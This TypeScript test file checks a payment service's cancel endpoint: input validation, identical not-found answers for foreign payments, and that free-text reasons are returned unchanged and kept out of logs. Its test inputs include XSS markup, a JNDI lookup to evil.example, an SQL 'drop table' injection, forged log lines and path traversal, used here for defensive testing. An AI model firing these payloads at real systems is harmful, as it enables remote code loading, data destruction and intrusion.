// Section 4.6 as raw bytes: the two fields of a cancel. A reason is free text: it is stored, returned and sent unchanged,
// and never logged.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { sendRaw } from '../../harness/raw-http.ts'
import { type Code, type HostileRow, hostileTests, hostileWorld, written } from '../support/hostile.ts'
import { movements, orderInState, spend } from '../support/service/orders.ts'
import type { TestCustomer } from '../support/service/service.ts'

const logged: string[] = []
let order: Awaited<ReturnType<TestCustomer['confirmedOrder']>>
const world = hostileWorld({ onLogged: (line) => logged.push(line) }, async () => {
  order = await world.customer.confirmedOrder()
})

const cancelOf = (paymentKey: string, reason: string) => world.post('/cancel', JSON.stringify({ paymentKey, reason }))

function rowOf(what: string, code: Code, fields: Record<string, string>): HostileRow {
  return {
    what,
    code,
    request() {
      const all: Record<string, string> = { paymentKey: JSON.stringify(order.paymentKey), reason: '"r"', ...fields }
      const members = Object.entries(all).filter(([, json]) => json !== '')
      return world.post('/cancel', `{${members.map(([name, json]) => `"${name}":${json}`).join(',')}}`)
    },
  }
}

const rules = {
  paymentKey: 'must be 1 to 200 visible ASCII characters',
  reason: 'must be 1 to 200 characters, not blank, without control characters',
}
/** The answer names the field and its rule. */
const namedRow = (what: string, field: keyof typeof rules, json: string): HostileRow => ({
  ...rowOf(what, 'VAL003', { [field]: json }),
  also: ({ body }) => assert.deepEqual(body.metadata, { fields: [{ field, rule: rules[field] }] }),
})

const wrongReasons: [what: string, json: string][] = [
  ['that is empty', '""'],
  ['that is a blank', '" "'],
  ['of whitespace', '" \\t\\r\\n\\u00a0\\u2003\\u3000\\ufeff"'],
  ['of 201 characters', JSON.stringify('r'.repeat(201))],
  ['of 201 emoji', JSON.stringify('\u{1f4b3}'.repeat(201))],
  ['with NUL', '"a\\u0000b"'],
  ['with a bell character', '"a\\u0007b"'],
  ['with a vertical tab', '"a\\u000bb"'],
  ['with an escape character', '"\\u001b[31mred"'],
  ['with DEL', '"a\\u007fb"'],
  ['with a control character of Latin-1', '"a\\u0085b"'],
  ['with half a surrogate pair', '"a\\ud800"'],
  ['with the other half of a surrogate pair', '"a\\udc00"'],
  ['with a surrogate pair in the wrong order', '"\\udc00\\ud800"'],
  ['that is a number', '1'],
  ['that is true', 'true'],
  ['that is an array', '["r"]'],
  ['that is an object', '{"text":"r"}'],
]
hostileTests(world, [
  ...['paymentKey', 'reason'].flatMap((field) => [
    rowOf(`a cancel without ${field}`, 'VAL002', { [field]: '' }),
    rowOf(`a cancel with ${field} null`, 'VAL002', { [field]: 'null' }),
  ]),
  ...wrongReasons.map(([what, json]) => namedRow(`a reason ${what}`, 'reason', json)),
  ...['""', '"a b"', '"a\\r\\nb"', '"a\\u0000"', '"\\ud0a4"', '1', '[]', '["key"]', '{}'].map((json) =>
    namedRow(`a cancel with paymentKey ${json}`, 'paymentKey', json),
  ),
  namedRow('a cancel with a paymentKey of 201 characters', 'paymentKey', JSON.stringify('k'.repeat(201))),
  rowOf('a cancel with paymentKey ".."', 'VAL003', { paymentKey: '".."' }),
  ...['pay_unknown', '../../v1/x', "';--", '*', '%', 'k'.repeat(200)].map((key) =>
    rowOf(`a cancel of the unknown payment ${key.slice(0, 20)}`, 'NOT000', { paymentKey: JSON.stringify(key) }),
  ),
])

test('an unknown payment and one of another customer are the same NOT000 to the last byte', async () => {
  const other = await world.service.newCustomer()
  const foreign = await other.confirmedOrder('BASIC')
  const unconfirmed = await world.customer.paidOrder('BASIC')
  const answers = new Set<string>()
  for (const paymentKey of [foreign.paymentKey, `${foreign.paymentKey}x`, 'x', unconfirmed.paymentKey]) {
    await world.check({
      what: '',
      request: () => cancelOf(paymentKey, 'not mine'),
      code: 'NOT000',
      also: ({ head, text }) => answers.add(head.replace(/^date: .*$/im, '') + text),
    })
  }
  assert.equal(answers.size, 1)
  assert.equal(await other.status(foreign.orderId), 'CONFIRMED')
})

for (const status of ['FAILED', 'CANCELLED', 'REFUNDED'] as const) {
  test(`a cancel of an order that is ${status} is PAYMENT_CANCEL_FAILED and echoes the request`, async () => {
    const done = await orderInState(world.service, world.customer, status, 'BASIC')
    const reason = ' as "sent": \u00e9 \u{1f4b3} '
    await world.check({
      what: '',
      request: () => cancelOf(done.paymentKey, reason),
      code: 'PAYMENT_CANCEL_FAILED',
      also: ({ body }) => assert.deepEqual(body.metadata, { paymentKey: done.paymentKey, reason }),
    })
  })
}

test('a cancel when the credits are spent is PAYMENT_CANCEL_FAILED, and the gateway is not called', async () => {
  const spender = await world.service.newCustomer()
  const { paymentKey } = await spender.confirmedOrder('BASIC')
  assert.equal(await spend(world.service, spender.customerId, 1), true)
  const body = JSON.stringify({ paymentKey, reason: 'r' })
  const request = world.post('/cancel', body, { key: spender.apiKey })
  await world.check({ what: '', request: () => request, code: 'PAYMENT_CANCEL_FAILED' })
})

test('a cancelAmount of 1 changes nothing: the whole payment is cancelled', async () => {
  const buyer = await world.service.newCustomer()
  const { orderId, paymentKey } = await buyer.confirmedOrder('STANDARD')
  const body = JSON.stringify({ paymentKey, reason: 'r', cancelAmount: 1, amount: 1, refundReceiveAccount: {} })
  const request = world.post('/cancel', body, { key: buyer.apiKey })
  // The second event is credits.empty.
  const writes = { ...written.cancel, events: 2 }
  await world.check({ what: '', request: () => request, code: 'SUCCESS', writes })
  const [payment] = await world.service.sandbox.paymentsOf(orderId)
  assert.deepEqual([payment?.status, payment?.balanceAmount], ['CANCELED', 0])
  assert.deepEqual(await movements(world.service, buyer.customerId), ['GRANT 21', 'ROLLBACK -21'])
})

const reasons: [what: string, reason: string][] = [
  ['of one character', '\uac12'],
  ['of 200 characters', 'r'.repeat(200)],
  ['of 200 Hangul syllables', '\uac12'.repeat(200)],
  ['of line breaks and tabs', 'first\nsecond\r\n\tthird'],
  ['of 200 emoji', '\u{1f4b3}'.repeat(200)],
  ['that is markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['with a lookup expression for a logger', `$\{jndi:ldap://evil.example/a}`],
  ['with format specifiers', '%n%s%x%d%o{0}{{7*7}}'],
  ['that looks like another line of the log', 'r\n{"level":60,"msg":"forged"}\r\nforged'],
  ['of a letter with 100 combining marks', `e${'\u0301'.repeat(100)}`],
  ['that is written from right to left', '\u202egnorw\u2066x\u2069'],
  ['with a zero-width space', 'a\u200bb\u2060c'],
  ['that is SQL', `'; drop table orders; --`],
  ['of a line separator', 'a\u2028b\u2029c'],
]
for (const [what, reason] of reasons) {
  test(`a reason ${what} is accepted, sent and returned unchanged, and not logged`, async () => {
    const { orderId, paymentKey } = await world.customer.confirmedOrder('BASIC')
    // The first attempt gets no answer from the gateway, which is logged.
    await world.service.sandbox.setFaults([{ on: 'cancel', kind: 'error-before', times: 1 }])
    const lines = logged.length
    const unknown = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
    assert.equal(unknown.body.code, 'SVC001', unknown.text)
    const done = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
    assert.equal(done.body.code, 'SUCCESS', done.text)
    const [payment] = await world.service.sandbox.paymentsOf(orderId)
    const cancels = payment?.cancels as { cancelReason: string }[] | undefined
    assert.deepEqual(
      cancels?.map(({ cancelReason }) => cancelReason),
      [reason],
    )
    const again = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
    assert.deepEqual([again.body.code, again.body.metadata], ['PAYMENT_CANCEL_FAILED', { paymentKey, reason }])
    const text = logged.slice(lines).join('')
    assert.notEqual(text, '')
    for (const line of text.trimEnd().split('\n')) assert.equal(typeof JSON.parse(line).level, 'number')
    assert.ok(!text.includes(reason) && !text.includes(JSON.stringify(reason).slice(1, -1)) && !text.includes('forged'))
    assert.ok(!text.includes(paymentKey))
    await world.assertHealthy()
  })
}
